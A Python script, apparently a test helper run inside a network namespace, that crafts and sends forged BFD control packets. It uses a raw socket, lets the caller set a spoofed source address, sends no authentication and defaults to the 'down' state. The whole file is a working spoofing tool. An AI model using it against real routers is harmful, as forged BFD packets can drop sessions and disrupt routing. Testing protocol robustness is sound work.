#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Sends one forged BFD control packet (raw socket, IP_HDRINCL, no scapy).

usage: bfd_forge.py SRC DST [--ttl 255] [--state down] [--my-disc N]
                    [--your-disc N] [--count N]

A single-hop BFD control packet (RFC 5880 4.1, RFC 5881) from SRC (any
address: the header is ours) to DST:3784, as a host that is not the peer
would forge it: no authentication, Detect Mult 3, 1 s intervals. The kernel
routes it by DST out of the namespace's own interfaces. Prints one JSON
line: {"sent"}.
"""
import argparse
import json
import socket
import struct

STATES = {"admindown": 0, "down": 1, "init": 2, "up": 3}


def bfd_packet(state, my_disc, your_disc):
    return struct.pack("!BBBBIIIII", 1 << 5, STATES[state] << 6, 3, 24, my_disc,
                       your_disc, 1000000, 1000000, 0)


def ip_udp(src, dst, ttl, payload):
    udp = struct.pack("!HHHH", 49999, 3784, 8 + len(payload), 0) + payload
    # Checksum and id left to the kernel (IP_HDRINCL fills them when 0).
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0xc0, 20 + len(udp), 0, 0, ttl,
                     socket.IPPROTO_UDP, 0, socket.inet_aton(src), socket.inet_aton(dst))
    return ip + udp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src")
    ap.add_argument("dst")
    ap.add_argument("--ttl", type=int, default=255)
    ap.add_argument("--state", choices=sorted(STATES), default="down")
    ap.add_argument("--my-disc", type=int, default=0x1badd15c)
    ap.add_argument("--your-disc", type=int, default=0)
    ap.add_argument("--count", type=int, default=1)
    a = ap.parse_args()
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    pkt = ip_udp(a.src, a.dst, a.ttl, bfd_packet(a.state, a.my_disc, a.your_disc))
    sent = 0
    for _ in range(a.count):
        s.sendto(pkt, (a.dst, 0))
        sent += 1
    print(json.dumps({"sent": sent}))


if __name__ == "__main__":
    main()
